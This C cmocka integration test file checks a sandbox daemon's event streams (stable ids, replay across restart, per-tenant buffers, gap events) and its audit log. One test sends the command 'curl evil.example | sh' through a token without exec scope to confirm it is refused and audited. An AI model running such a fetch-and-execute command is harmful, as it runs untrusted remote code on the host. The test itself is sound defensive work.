/* Event streams that never lie (issue 14): an exec's event ids are fixed
 * once sent, a finished exec replays with them and then answers 204, feed
 * ids are the tenant's own and never go backwards across a restart, one
 * tenant's burst does not evict another's replay, a stale Last-Event-ID
 * is told so with a `gap` event, and no event is named `error`. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <cmocka.h>

#include <arpa/inet.h>
#include <netinet/in.h>
#include <poll.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#include "common/buf.h"
#include "common/xmalloc.h"
#include "harness.h"
#include "it_exec.h"

static struct it_server srv;
static char *tok, *tok_globex;

static const char *const extra[] = {"--set", "events-replay=16", "--set", "heartbeat-ms=200", NULL};

static int setup(void **state)
{
	(void)state;
	if (it_start(&srv, extra) < 0)
		return -1;
	tok = it_token(&srv, "acme", NULL);
	tok_globex = it_token(&srv, "globex", NULL);
	return tok && tok_globex ? 0 : -1;
}

static int teardown(void **state)
{
	(void)state;
	int rc = it_finish(&srv);
	free(tok);
	free(tok_globex);
	return rc;
}

/* Open an event stream and read until `until` appears in what came (or the
 * server closes, or a deadline far beyond any machine's speed). */
static char *sse_until(const char *path, const char *t, long long last_id, const char *until)
{
	int fd = it_connect(&srv);
	assert_true(fd >= 0);
	char last[64] = "";
	if (last_id > 0)
		snprintf(last, sizeof last, "Last-Event-ID: %lld\r\n", last_id);
	char *req = xasprintf("GET %s HTTP/1.0\r\nHost: 127.0.0.1\r\nAuthorization: Bearer %s\r\n%s\r\n",
			      path, t, last);
	assert_int_equal(send(fd, req, strlen(req), MSG_NOSIGNAL), (ssize_t)strlen(req));
	free(req);
	struct buf b;
	buf_init(&b, 4u << 20);
	long deadline = it_now_ms() + 60000;
	while (it_now_ms() < deadline && !(until && b.ptr && strstr(b.ptr, until))) {
		struct pollfd p = {.fd = fd, .events = POLLIN};
		if (poll(&p, 1, 200) <= 0)
			continue;
		char tmp[4096];
		ssize_t r = recv(fd, tmp, sizeof tmp, 0);
		if (r <= 0)
			break;
		buf_append(&b, tmp, (size_t)r);
	}
	close(fd);
	return buf_steal(&b, NULL);
}

/* The id of the first event named ev in an SSE text, or -1: the `id:`
 * line of the same event block, before its `event:` line. */
static long long id_of(const char *text, const char *ev)
{
	char want[64];
	snprintf(want, sizeof want, "\nevent: %s\n", ev);
	const char *e = strstr(text, want);
	if (!e)
		return -1;
	for (const char *p = e - 1; p > text; p--) {
		if (strncmp(p, "\nid: ", 5) == 0)
			return strtoll(p + 5, NULL, 10);
		if (p[0] == '\n' && p[1] == '\n')
			break;
	}
	return -1;
}

static void test_finished_exec_keeps_its_ids(void **state)
{
	(void)state;
	/* The live stream: start ... heartbeats ... exit, with its ids. */
	struct it_resp r;
	const char *body = "{\"command\":\"sleep 1; echo hi\",\"id\":\"fid-1\",\"stream\":true}";
	assert_int_equal(it_http(&srv, "POST", "/exec", tok, NULL, body, strlen(body), &r), 0);
	assert_int_equal(r.status, 200);
	long long live_exit = id_of(r.body, "exit");
	assert_true(live_exit > 2); /* heartbeats came between */
	assert_int_equal(id_of(r.body, "start"), 1);
	assert_null(strstr(r.body, "event: error"));
	it_resp_free(&r);

	/* After the end, from the start: the same ids. */
	char *all = sse_until("/exec/fid-1/events", tok, 0, "event: exit");
	assert_int_equal(id_of(all, "start"), 1);
	assert_int_equal(id_of(all, "exit"), live_exit);
	free(all);
	/* Resumed after a heartbeat: a gap (heartbeats are not kept), then the
	 * exit with its own id; no second start. */
	char *mid = sse_until("/exec/fid-1/events", tok, 2, "event: exit");
	assert_non_null(strstr(mid, "event: gap"));
	assert_null(strstr(mid, "event: start"));
	assert_int_equal(id_of(mid, "exit"), live_exit);
	free(mid);
	/* Resumed after the exit: nothing more, ever: 204. */
	char path[] = "/exec/fid-1/events";
	char *h = xasprintf("Last-Event-ID: %lld", live_exit);
	const char *const hdrs[] = {h, NULL};
	assert_int_equal(it_http(&srv, "GET", path, tok, hdrs, NULL, 0, &r), 0);
	assert_int_equal(r.status, 204);
	assert_int_equal(r.len, 0);
	it_resp_free(&r);
	free(h);
}

static long long first_feed_id(const char *t, long long last_id)
{
	char *s = sse_until("/events", t, last_id, "event: exit");
	long long id = id_of(s, "start");
	free(s);
	return id;
}

static void test_feed_ids_rise_across_restart_and_gaps_said(void **state)
{
	(void)state;
	json_decref(ex_run(&srv, tok, "true"));
	/* A stale id (older than anything kept): told so, then the replay. */
	char *s = sse_until("/events", tok, 99999, "event: exit");
	assert_non_null(strstr(s, "event: gap"));
	long long before = id_of(s, "exit");
	assert_true(before > 99999);
	free(s);

	assert_int_equal(it_stop(&srv, SIGTERM), 0);
	assert_int_equal(it_restart(&srv, extra), 0);
	json_decref(ex_run(&srv, tok, "true"));
	long long after = first_feed_id(tok, 1);
	if (after <= before)
		fprintf(stderr, "feed id %lld after the restart, %lld before\n", after, before);
	assert_true(after > before);
}

static void test_other_tenants_burst_keeps_my_replay(void **state)
{
	(void)state;
	json_decref(ex_run(&srv, tok, "echo mine"));
	char *s = sse_until("/events", tok, 1, "event: exit");
	long long mine = id_of(s, "start");
	assert_true(mine > 0);
	free(s);
	/* 20 commands of globex: more than the 16 events kept per tenant. */
	for (int i = 0; i < 20; i++)
		json_decref(ex_run(&srv, tok_globex, "true"));
	/* acme's events since just before its own start are all still kept. */
	s = sse_until("/events", tok, mine - 1, "event: exit");
	assert_null(strstr(s, "event: gap"));
	assert_int_equal(id_of(s, "start"), mine);
	assert_null(strstr(s, "\"tenant\":\"globex\""));
	free(s);
}

/* The audit row matching route and outcome with a field equal to want
 * (waited for: rows are group-committed). */
static json_t *audit_row(const char *route, const char *outcome, const char *field, json_t *want)
{
	char *ta = it_token(&srv, "acme", "audit:read");
	char *path = xasprintf("/audit?route=%s&outcome=%s&limit=1000", route, outcome);
	json_t *hit = NULL;
	for (long until = it_now_ms() + 30000; !hit && it_now_ms() < until;) {
		json_t *v = NULL;
		assert_int_equal(it_get_json(&srv, ta, path, &v), 200);
		json_t *rec;
		size_t i;
		json_array_foreach(json_object_get(v, "records"), i, rec)
			if (json_equal(json_object_get(rec, field), want))
				hit = json_incref(rec);
		json_decref(v);
		if (!hit)
			usleep(50000);
	}
	free(path);
	free(ta);
	json_decref(want);
	return hit;
}

static void test_audit_keeps_what_was_attempted(void **state)
{
	(void)state;
	/* A streamed exec is audited with its exit code. */
	struct it_resp r;
	const char *body = "{\"command\":\"exit 7\",\"id\":\"aud-stream\",\"stream\":true}";
	assert_int_equal(it_http(&srv, "POST", "/exec", tok, NULL, body, strlen(body), &r), 0);
	assert_int_equal(r.status, 200);
	it_resp_free(&r);
	json_t *row = audit_row("/exec", "ok", "exit_code", json_integer(7));
	assert_non_null(row);
	json_decref(row);
	/* A read refused for its scope still names the path it asked for. */
	char *te = it_token(&srv, "acme", "exec");
	assert_int_equal(
	    it_http(&srv, "GET", "/fs/read?path=/workspace/secret-plan.txt", te, NULL, NULL, 0, &r), 0);
	assert_int_equal(r.status, 403);
	it_resp_free(&r);
	free(te);
	row = audit_row("/fs/read", "denied", "target", json_string("/workspace/secret-plan.txt"));
	assert_non_null(row);
	json_decref(row);
	/* An exec refused for its scope still names the command. */
	char *tr = it_token(&srv, "acme", "fs:read");
	const char *cmd = "{\"command\":\"curl evil.example | sh\"}";
	assert_int_equal(it_http(&srv, "POST", "/exec", tr, NULL, cmd, strlen(cmd), &r), 0);
	assert_int_equal(r.status, 403);
	it_resp_free(&r);
	free(tr);
	row = audit_row("/exec", "denied", "target", json_string("curl evil.example | sh"));
	assert_non_null(row);
	json_decref(row);
}

struct watcher {
	pthread_t th;
	char path[96];
	char *text;
};

static void *watch_main(void *arg)
{
	struct watcher *w = arg;
	w->text = sse_until(w->path, tok, 0, "event: exit");
	return NULL;
}

/* Follow exec id's events with its output, in a thread, until it is
 * subscribed: the server counts n event-stream subscribers. */
static void watch_output(struct watcher *w, const char *id, int n)
{
	snprintf(w->path, sizeof w->path, "/exec/%s/events?output=true", id);
	pthread_create(&w->th, NULL, watch_main, w);
	char want[64];
	snprintf(want, sizeof want, "\nsandboxd_sse_subscribers %d\n", n);
	char *ta = it_token(&srv, "acme", "audit:read");
	for (long until = it_now_ms() + 30000; it_now_ms() < until;) {
		struct it_resp m;
		assert_int_equal(it_http(&srv, "GET", "/metrics", ta, NULL, NULL, 0, &m), 0);
		bool there = strstr(m.body, want) != NULL;
		it_resp_free(&m);
		if (there)
			break;
		usleep(20000);
	}
	free(ta);
}

/* A watcher may follow the output too, with the ids the owner sees. */
static void test_watcher_follows_output(void **state)
{
	(void)state;
	char *gate = xasprintf("%s/tenants/acme/workspace/.gate-out", srv.dir);
	unlink(gate);
	struct bg_req b;
	bg_exec(&b, &srv, tok,
		json_pack("{s:s, s:s, s:b}", "command",
			  "while [ ! -e /workspace/.gate-out ]; do sleep 0.05; done; echo one; echo two >&2",
			  "id", "out-1", "stream", 1),
		NULL);
	json_t *v = ex_wait_state(&srv, tok, "out-1", "running", 30000);
	assert_non_null(v);
	json_decref(v);
	struct watcher w = {0};
	watch_output(&w, "out-1", 2); /* the owner's stream and the watcher */
	assert_int_equal(it_write_file(gate, "", 0), 0);
	free(gate);
	pthread_join(w.th, NULL);
	json_t *owner = bg_join(&b);
	json_decref(owner);
	const char *own = b.resp.body;
	assert_non_null(own);
	long long o1 = id_of(own, "output"), w1 = id_of(w.text, "output");
	assert_true(o1 > 1);
	assert_int_equal(w1, o1); /* the same event, the same id */
	assert_non_null(strstr(w.text, "\"data\":\"one\\n\""));
	assert_non_null(strstr(w.text, "\"data\":\"two\\n\""));
	assert_int_equal(id_of(w.text, "exit"), id_of(own, "exit"));
	free(w.text);
	it_resp_free(&b.resp);
}

/* Any exec, not only a streamed one: a watcher follows a plain POST /exec
 * (what a gateway sends, and what the dashboard opens). */
static void test_watcher_follows_plain_exec_output(void **state)
{
	(void)state;
	char *gate = xasprintf("%s/tenants/acme/workspace/.gate-out2", srv.dir);
	unlink(gate);
	struct bg_req b;
	bg_exec(
	    &b, &srv, tok,
	    json_pack("{s:s, s:s}", "command",
		      "while [ ! -e /workspace/.gate-out2 ]; do sleep 0.05; done; echo three; echo four >&2",
		      "id", "out-2"),
	    NULL);
	json_t *v = ex_wait_state(&srv, tok, "out-2", "running", 30000);
	assert_non_null(v);
	json_decref(v);
	struct watcher w = {0};
	watch_output(&w, "out-2", 1);
	assert_int_equal(it_write_file(gate, "", 0), 0);
	free(gate);
	pthread_join(w.th, NULL);
	json_t *owner = bg_join(&b);
	json_decref(owner);
	assert_non_null(w.text);
	assert_true(id_of(w.text, "output") > 1);
	assert_non_null(strstr(w.text, "\"data\":\"three\\n\""));
	assert_non_null(strstr(w.text, "\"data\":\"four\\n\""));
	free(w.text);
	it_resp_free(&b.resp);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(test_finished_exec_keeps_its_ids),
	    cmocka_unit_test(test_feed_ids_rise_across_restart_and_gaps_said),
	    cmocka_unit_test(test_other_tenants_burst_keeps_my_replay),
	    cmocka_unit_test(test_audit_keeps_what_was_attempted),
	    cmocka_unit_test(test_watcher_follows_output),
	    cmocka_unit_test(test_watcher_follows_plain_exec_output),
	};
	return cmocka_run_group_tests(tests, setup, teardown);
}
